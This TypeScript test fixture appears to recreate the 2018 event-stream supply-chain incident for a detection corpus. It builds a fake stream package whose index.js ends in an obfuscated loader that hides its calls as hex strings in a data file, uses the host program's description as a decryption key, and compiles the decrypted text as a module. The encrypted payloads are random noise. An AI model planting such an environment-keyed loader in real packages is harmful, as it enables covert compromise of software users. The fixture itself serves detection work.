import type { Incident } from '../incident.ts';

/** Stands for cipher text: random-looking, decrypts to nothing. */
function noise(length: number): string {
  let state = 20_181_126;
  let out = '';
  while (out.length < length) {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    out += (state >>> 8).toString(16).padStart(6, '0').slice(-6);
  }
  return out.slice(0, length);
}

export const eventStream: Incident = {
  id: 'event-stream-2018',
  story:
    'A new maintainer adds a dependency whose released file, not its repository, ends in a loader: it reads hex texts from a test data file, decrypts them with the description of the program being run as key, and compiles the result as a module. Only one wallet program had the right description.',
  sources: ['https://changelog.com/podcast/326', 'https://github.com/dominictarr/event-stream/issues/116'],
  name: 'corpus-flat-stream',
  version: '0.1.1',
  manifest: { description: 'maps a stream to other streams', main: 'index.js' },
  payloads: [
    {
      path: 'index.js',
      format: 'cjs',
      uses: { stream: 'stream', cipherLibrary: 'crypto' },
      sections: [
        {
          provides: ['flatten'],
          code: `
function flatten(mapper) {
  const through = new stream.Transform({ objectMode: true });
  through._transform = function (chunk, encoding, done) {
    mapper(chunk, done);
  };
  return through;
}
`,
        },
        {
          provides: ['decode'],
          code: `
function decode(hex) {
  return Buffer.from(hex, 'hex').toString();
}
`,
        },
        {
          provides: [],
          code: `
const texts = require('./test/data.js');
function start() {
  try {
    const settings = process[decode(texts[3])];
    const key = settings[decode(texts[4])];
    if (!key) {
      return;
    }
    const machine = cipherLibrary[decode(texts[2])](decode(texts[5]), key);
    let source = machine.update(texts[0], 'hex', 'utf8');
    source += machine.final('utf8');
    const loaded = new module.constructor();
    loaded.paths = module.paths;
    loaded[decode(texts[6])](source, '');
    loaded.exports(texts[1]);
  } catch (error) {}
}
start();
module.exports = flatten;
`,
        },
      ],
    },
  ],
  files: {
    'test/data.js': `module.exports = ${JSON.stringify(
      [
        noise(4096),
        noise(2048),
        ...['createDecipher', 'env', 'npm_package_description', 'aes256', '_compile'].map((text) =>
          Buffer.from(text).toString('hex'),
        ),
      ],
      null,
      1,
    )};\n`,
    'README.md': '# corpus-flat-stream\n\nMaps a stream to other streams.\n',
  },
  marks: { 'test/data.js': 'lib/tables.js' },
};
